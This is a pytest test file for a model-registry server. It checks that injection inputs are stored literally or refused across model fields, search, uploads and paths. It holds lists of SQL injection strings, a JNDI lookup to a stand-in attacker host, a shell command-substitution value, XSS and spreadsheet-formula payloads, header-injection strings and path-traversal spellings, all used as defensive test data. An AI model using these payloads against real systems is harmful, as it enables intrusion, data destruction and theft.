"""SQL, template, path and control-character injection: text is stored and matched literally, or refused."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from modelyard.server.resources import build_database_url
from tests.attacks.state_snapshot import DatabaseRows, list_store_files
from tests.server.harness import ApiCaller, Harness, make_model_file

pytestmark = [
    pytest.mark.slow,
    pytest.mark.extended(
        reason="the same texts in every field; wire/test_names.py, wire/test_paths.py and server/models/test_search.py"
    ),
]

CODE_TEXTS = [
    "'; DROP TABLE models; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "1; DELETE FROM users WHERE 1=1",
    "') UNION SELECT * FROM users --",
    "%",
    "_",
    "%%%",
    "\\%",
    "{0.__class__}",
    "%(name)s %s %n",
    "${jndi:ldap://evil.test/x}",
    "{{7*7}}",
    "$(touch /tmp/x)`id`",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "=cmd|' /C calc'!A0",
    "../../../etc/passwd",
    "\u200fgnp.exe",
    "e\u0301" * 20,
    "Z\u0335\u0321" * 10,
    "\U0001f4a5\u200d\u2764\ufe0f",
    "\ufeffbom",
    "ﷺ" * 10,
    "İstanbul ß",
]
CONTROL_TEXTS = ["a\r\nSet-Cookie: x=y", "a\nb", "a\x00b", "\x1b[31mred", "a\x7fb"]


@pytest.fixture
def rows(registry: Harness) -> Iterator[DatabaseRows]:
    rows = DatabaseRows(build_database_url(registry.resources.settings))
    yield rows
    rows.close()


def _count_rows(rows: DatabaseRows, *, excluded: set[str]) -> dict[str, int]:
    return {name: len(table_rows) for name, table_rows in rows.read_all().items() if name not in excluded}


def _search_names(owner: ApiCaller, **query: str) -> list[str]:
    return [model["display_name"] for model in owner.get("/models", **query, per_page="100").json()["model_list"]]


def test_sql_in_field_is_stored_and_changes_no_other_row(registry: Harness, rows: DatabaseRows) -> None:
    model_id = registry.owner.register()
    other_id = registry.owner.register(path="loras/other.safetensors")
    other = registry.owner.get(f"/models/{other_id}").json()
    before = _count_rows(rows, excluded={"audit_events", "model_tags"})
    for text in CODE_TEXTS:
        update = {"display_name": text, "description": text, "license": text, "tags": [text[:64]]}
        assert registry.owner.put(f"/models/{model_id}", **update).status_code == 200, text
        shown = registry.owner.get(f"/models/{model_id}").json()
        assert {name: shown[name] for name in update} == update
    assert _count_rows(rows, excluded={"audit_events", "model_tags"}) == before
    assert registry.owner.get(f"/models/{other_id}").json() == other


def test_sql_in_search_is_matched_literally(registry: Harness, rows: DatabaseRows) -> None:
    model_id = registry.owner.register(display_name="plain")
    registry.owner.register(path="loras/other.safetensors", display_name="bystander")
    before = rows.read_all()
    for text in CODE_TEXTS:
        assert _search_names(registry.owner, q=text) == [], text
        assert _search_names(registry.owner, tag=text) == [], text
        assert _search_names(registry.owner, model_type=text) == [], text
        assert (
            registry.owner.get("/audit-events", action=text, object_id=text, actor_id=text).json()["audit_event_list"]
            == []
        )
        assert registry.owner.get("/models", sort=text).status_code == 422
    assert rows.read_all() == before
    for text in CODE_TEXTS:
        registry.owner.put(f"/models/{model_id}", display_name=text)
        assert _search_names(registry.owner, q=text) == [text]


def test_name_with_control_character_is_refused(registry: Harness, rows: DatabaseRows) -> None:
    model_id = registry.owner.register()
    before = rows.read_all()
    for text in CONTROL_TEXTS:
        for name in ("display_name", "license", "model_path", "model_type", "source_url"):
            refused = registry.owner.put(f"/models/{model_id}", **{name: text})
            assert (refused.status_code, refused.json()["errors"][0]["field"]) == (422, name), text
        assert registry.owner.post("/teams", display_name=text).status_code == 422
        assert registry.owner.post("/credentials", kind="integration", display_name=text).status_code == 422
        assert (
            registry.owner.post("/invitations", email_address=f"{text}@x.test", invitation_role="viewer").status_code
            == 422
        )
        assert registry.owner.presign(b"x", file_name=text).status_code == 422
    assert rows.read_all() == before


PATH_ESCAPES = [
    "..",
    ".",
    "...",
    "a/..",
    "../a",
    "..\\a",
    "a\\..\\b",
    "%2e%2e",
    "%2e%2e%2fa",
    "%252e%252e",
    "..%c0%af",
    "\uff0e\uff0e",
    "‥",
]
PATH_ESCAPES += [
    "/etc/passwd",
    "//host/share",
    "\\\\host\\share",
    "C:x",
    "C:\\x",
    "c:/x",
    "file:///x",
    "~",
    "~root",
    "a//b",
    "a/./b",
    "a/",
    "/",
]
PATH_ESCAPES += [
    "CON",
    "nul.txt",
    "COM1",
    "lpt9.x",
    "COM¹",
    "a.",
    "a ",
    " a",
    ".a",
    "a:b",
    "a::$DATA",
    "a\u0000b",
    "a\u202eb",
    "a\u2044b",
    "a∕b",
]


def test_model_path_traversal_spelling_is_refused(registry: Harness, rows: DatabaseRows) -> None:
    folder: Path = registry.resources.settings.data_dir
    content = make_model_file()
    key = registry.owner.upload(content)
    before, files = rows.read_all(), list_store_files(folder)
    for escape in PATH_ESCAPES:
        for path in (escape, f"loras/{escape}/x.safetensors", f"models/{escape}", f"loras/{escape}"):
            body = registry.owner.new_model(content, "loras/x.safetensors", storage_key=key, model_path=path)
            named = {name: value for name, value in body.items() if name != "storage_key"}
            presigned = registry.owner.presign(content, model_path=path)
            for refused in (registry.owner.post("/models", **body), presigned):
                assert refused.status_code == 422, (path, refused.text)
                assert refused.json()["errors"][0]["field"] == "model_path", (path, named)
        refused = registry.owner.presign(content, model_type=escape)
        assert refused.status_code == 422, escape
    assert rows.read_all() == before
    assert list_store_files(folder) == files


def test_file_name_with_code_is_stored_literally(registry: Harness) -> None:
    folder: Path = registry.resources.settings.data_dir
    before = list_store_files(folder)
    for text in CODE_TEXTS:
        ticket = registry.owner.presign(b"x" * 9, file_name=text)
        assert ticket.status_code == 200
        team, upload = ticket.json()["storage_key"].split("/")[1:]
        assert (team, len(upload)) == (registry.team_id, 36)
    assert list_store_files(folder) == before
